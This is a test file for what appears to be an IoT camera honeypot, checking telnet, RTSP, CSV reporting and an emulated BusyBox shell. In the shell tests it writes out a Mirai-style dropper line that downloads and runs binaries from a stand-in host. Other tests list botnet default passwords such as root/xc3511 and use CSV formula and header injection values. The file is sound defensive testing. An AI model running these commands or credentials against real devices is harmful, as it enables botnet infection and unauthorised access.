import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { rungOf, SOURCE_CLASSES, SourceClassifier } from './classify.js';
import { checkCredential, isBotnetDefault, MIRAI_DEFAULTS } from './credentials.js';
import {
  boundSummary,
  boundText,
  bytesPreview,
  EVENT_IDS,
  looksBinary,
  MAX_SUMMARY,
} from './events.js';
import { encodeGreyJpeg, testPattern } from './jpeg.js';
import { csvField, ReportBuilder, reportCsv } from './report.js';
import { basicCredentials, digestUsername, parseRtspRequest, rtspResponse } from './rtsp.js';
import { runShellLine, splitCommands } from './shell.js';
import { DO, IAC, SB, SE, TelnetFilter, WILL, WONT } from './telnet-proto.js';

describe('credentials', () => {
  it('knows the 62 published Mirai defaults', () => {
    expect(MIRAI_DEFAULTS.length).toBe(62);
    expect(isBotnetDefault('root', 'xc3511')).toBe(true);
    expect(isBotnetDefault('root', '')).toBe(true);
    expect(isBotnetDefault('root', 'XC3511')).toBe(false);
  });
  it('applies the four auth modes', () => {
    const p = (mode: 'none' | 'weak' | 'flawed' | 'strong') => ({
      mode,
      strongUser: 'admin',
      strongPassword: 'Zq8-long-random',
    });
    expect(checkCredential(p('none'), 'x', 'y')).toBe(true);
    expect(checkCredential(p('weak'), 'admin', 'admin')).toBe(true);
    expect(checkCredential(p('weak'), 'admin', 'admin ')).toBe(false);
    expect(checkCredential(p('flawed'), 'admin', 'admin')).toBe(false);
    expect(checkCredential(p('strong'), 'admin', 'Zq8-long-random')).toBe(true);
    expect(checkCredential(p('strong'), 'admin', 'Zq8-long-rando')).toBe(false);
  });
});

describe('event bounding', () => {
  it('escapes control bytes and cuts long text', () => {
    expect(boundText('a\u0000b\u001b[31m')).toBe('a\\x00b\\x1b[31m');
    expect(boundText('x'.repeat(1000)).length).toBeLessThan(300);
    expect(bytesPreview(new Uint8Array([0x41, 0xff, 0x0a]))).toBe('A\\xff\\x0a');
  });
  it('never lets a summary grow past its bound', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.string({ maxLength: 5000 })), (d) => {
        expect(JSON.stringify(boundSummary(d)).length).toBeLessThan(MAX_SUMMARY + 600);
      }),
      { numRuns: 200 },
    );
  });
  it('tells binary from text, UTF-8 included', () => {
    expect(looksBinary(new TextEncoder().encode('root\r\nxc3511\r\n'))).toBe(false);
    expect(looksBinary(new TextEncoder().encode('管理者\r\n'))).toBe(false);
    expect(looksBinary(new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0, 0, 0, 2, 3]))).toBe(
      true,
    );
    expect(looksBinary(new Uint8Array([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1]))).toBe(true);
  });
});

describe('classifier', () => {
  it('places each source on its furthest rung', () => {
    const c = new SourceClassifier();
    c.add({ srcIp: 'a', eventid: 'session.connect' });
    c.add({ srcIp: 'b', eventid: 'http.request' });
    c.add({ srcIp: 'c', eventid: 'login.failed' });
    c.add({ srcIp: 'd', eventid: 'stream.view' });
    c.add({ srcIp: 'd', eventid: 'login.failed' });
    c.add({ srcIp: 'e', eventid: 'ptz.command' });
    c.add({ srcIp: 'f', eventid: 'telnet.command', summary: { malware: true } });
    c.add({ srcIp: 'g', eventid: 'telnet.command', summary: { malware: false } });
    expect(Object.fromEntries(c.entries())).toEqual({
      a: 'scanner',
      b: 'grabber',
      c: 'guesser',
      d: 'viewer',
      e: 'operator',
      f: 'exploiter',
      g: 'grabber',
    });
  });
  it('counts every source exactly once (property)', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            srcIp: fc.constantFrom('1', '2', '3', '4', '5', '6'),
            eventid: fc.constantFrom(...EVENT_IDS),
          }),
        ),
        (events) => {
          const c = new SourceClassifier();
          for (const e of events) c.add(e);
          const counts = c.counts();
          const sum = SOURCE_CLASSES.reduce((s, k) => s + counts[k], 0);
          expect(sum).toBe(counts.total);
          expect(counts.total).toBe(new Set(events.map((e) => e.srcIp)).size);
          for (const e of events)
            expect(SOURCE_CLASSES.indexOf(c.classOf(e.srcIp)!)).toBeGreaterThanOrEqual(rungOf(e));
        },
      ),
    );
  });
});

describe('report', () => {
  it('measures first times from the reference start and makes safe CSV', () => {
    const b = new ReportBuilder({ startedAt: '2026-11-01T00:00:00.000Z' });
    const ev = (eventid: (typeof EVENT_IDS)[number], time: string, srcIp: string, extra = {}) =>
      b.add({ eventid, time, srcIp, protocol: 'telnet', summary: {}, ...extra });
    ev('session.connect', '2026-11-01T00:30:00.000Z', '10.0.0.1');
    ev('login.failed', '2026-11-01T01:00:00.000Z', '10.0.0.1', {
      username: '=cmd',
      password: 'a,b',
    });
    ev('login.success', '2026-11-02T00:00:00.000Z', '10.0.0.2', {
      username: 'root',
      password: 'xc3511',
    });
    // A digest guess: the user is known, the password is not (never reported as admin/"").
    ev('login.failed', '2026-11-02T01:00:00.000Z', '10.0.0.3', { username: 'admin' });
    ev('session.connect', '2026-11-02T01:00:00.000Z', '?');
    const { report, extras } = b.finish();
    expect(report.credentials.find((c) => c.username === 'admin')).toEqual({
      username: 'admin',
      password: null,
      attempts: 1,
      sources: 1,
      botnetDefault: false,
    });
    // A connection whose source could not be read is counted apart, never as a source.
    expect(report.sources.total).toBe(3);
    expect(extras.unattributed).toBe(1);
    expect(report.first.contact).toEqual({
      at: '2026-11-01T00:30:00.000Z',
      source: '10.0.0.1',
      afterSeconds: 1800,
    });
    expect(report.first.login?.afterSeconds).toBe(86400);
    expect(report.first.view).toBeNull();
    expect(extras.botnetShare).toBeCloseTo(1 / 3, 12);
    const csv = reportCsv(report, extras, 'credentials');
    expect(csv).toContain(`'=cmd,"a,b",true,1,1,false`);
    expect(csv).toContain('admin,,false,1,1,false');
    expect(csvField('@SUM(A1)')).toBe(`'@SUM(A1)`);
    expect(reportCsv(report, extras, 'timeline').split('\r\n')[0]).toBe(
      'day,events,sources,logins,views,operations,downloads',
    );
  });
});

describe('emulated shell', () => {
  it('answers the Mirai probes plausibly', () => {
    expect(runShellLine('enable').output).toBe('');
    expect(runShellLine('/bin/busybox ECCHI').output).toBe('ECCHI: applet not found\r\n');
    expect(runShellLine('cat /proc/mounts').output).toContain('/proc proc');
    expect(runShellLine('sh').effects).toEqual([{ command: 'sh', malware: false }]);
    expect(runShellLine("echo -e '\\x41\\x4b'").output).toBe('AK\r\n');
  });
  it('turns downloads into recorded attempts and never runs them', () => {
    const r = runShellLine(
      'cd /tmp || cd /var/run; wget http://198.51.100.7/x.arm7; tftp -g -l d -r bot.mips 198.51.100.7; busybox ftpget 198.51.100.7 a.sh a.sh; chmod 777 x.arm7; ./x.arm7',
    );
    expect(r.effects.filter((e) => e.download).map((e) => e.download!.url)).toEqual([
      'http://198.51.100.7/x.arm7',
      'tftp://198.51.100.7/bot.mips',
      'ftp://198.51.100.7/a.sh',
    ]);
    expect(r.effects.at(-1)).toEqual({ command: './x.arm7', malware: true });
    expect(runShellLine("echo -ne '\\x7f\\x45\\x4c\\x46' > .d").effects[0]!.malware).toBe(true);
  });
  it('splits on ; && || | but not inside quotes', () => {
    expect(splitCommands("a; b && c || d | e 'f;g'")).toEqual(['a', 'b', 'c', 'd', "e 'f;g'"]);
  });
});

describe('telnet negotiation', () => {
  it('strips commands, answers each option once and bounds subnegotiation', () => {
    const t = new TelnetFilter();
    const c1 = t.push(Uint8Array.from([IAC, DO, 24, 65, IAC, DO, 24, IAC, WILL, 32, 66, IAC, IAC]));
    expect([...c1.data]).toEqual([65, 66, 255]);
    expect([...c1.replies]).toEqual([IAC, WONT, 24, IAC, 254, 32]);
    // WILL NAWS answers the server's own DO NAWS (BusyBox's opening): no reply is due.
    expect([...t.push(Uint8Array.from([IAC, WILL, 31])).replies]).toEqual([]);
    const sb = [IAC, SB, 24, ...new Array(500).fill(1), IAC, SE, 67];
    const c2 = t.push(Uint8Array.from(sb));
    expect(c2.data.length).toBeLessThan(500); // a runaway SB is cut, not buffered
    expect(t.commands).toBe(6);
  });
});

describe('RTSP parsing', () => {
  it('parses requests and rejects malformed ones', () => {
    const r = parseRtspRequest(
      'DESCRIBE rtsp://h/ch0 RTSP/1.0\r\nCSeq: 2\r\nAccept: application/sdp',
    );
    expect(r).toMatchObject({ method: 'DESCRIBE', uri: 'rtsp://h/ch0', headers: { cseq: '2' } });
    expect(parseRtspRequest('GET / HTTP/1.1')).toBeUndefined();
    expect(parseRtspRequest('OPTIONS rtsp://h/ RTSP/1.0\r\nbroken')).toBeUndefined();
    expect(parseRtspRequest('\u0000\u0001')).toBeUndefined();
    const dec = (s: string) => Buffer.from(s, 'base64').toString('utf8');
    expect(basicCredentials('Basic YWRtaW46YWRtaW4=', dec)).toEqual({
      username: 'admin',
      password: 'admin',
    });
    expect(digestUsername('Digest username="admin", realm="x"')).toBe('admin');
    expect(rtspResponse(200, 'OK', '3\r\nX: injected')).not.toContain('\r\nX: injected');
  });
});

describe('JPEG', () => {
  it('writes a well-formed baseline JPEG of the right size', () => {
    const j = testPattern(Date.UTC(2026, 10, 25, 12, 0, 0), 320, 240);
    expect([j[0], j[1]]).toEqual([0xff, 0xd8]);
    expect([j[j.length - 2], j[j.length - 1]]).toEqual([0xff, 0xd9]);
    const sof = j.findIndex((b, i) => b === 0xff && j[i + 1] === 0xc0);
    expect(sof).toBeGreaterThan(0);
    expect((j[sof + 5]! << 8) | j[sof + 6]!).toBe(240);
    expect((j[sof + 7]! << 8) | j[sof + 8]!).toBe(320);
    // entropy-coded data never holds an unstuffed marker before EOI
    const sos = j.findIndex((b, i) => b === 0xff && j[i + 1] === 0xda);
    for (let i = sos + 10; i < j.length - 2; i++) if (j[i] === 0xff) expect(j[i + 1]).toBe(0);
    // the clock changes the picture
    expect(Buffer.from(testPattern(Date.UTC(2026, 10, 25, 12, 0, 1))).equals(Buffer.from(j))).toBe(
      false,
    );
  });
  it('rejects impossible sizes', () => {
    expect(() => encodeGreyJpeg(new Uint8Array(4), 4, 4)).toThrow(RangeError);
  });
});

describe('report first times with several sensors', () => {
  it('keeps the earliest time, not the first row read', () => {
    const b = new ReportBuilder({ startedAt: '2026-11-01T00:00:00.000Z' });
    b.add({
      eventid: 'session.connect',
      time: '2026-11-01T00:10:00.000Z',
      srcIp: 'b',
      protocol: 'http',
      summary: {},
    });
    b.add({
      eventid: 'session.connect',
      time: '2026-11-01T00:05:00.000Z',
      srcIp: 'a',
      protocol: 'http',
      summary: {},
    });
    expect(b.finish().report.first.contact).toEqual({
      at: '2026-11-01T00:05:00.000Z',
      source: 'a',
      afterSeconds: 300,
    });
  });
});
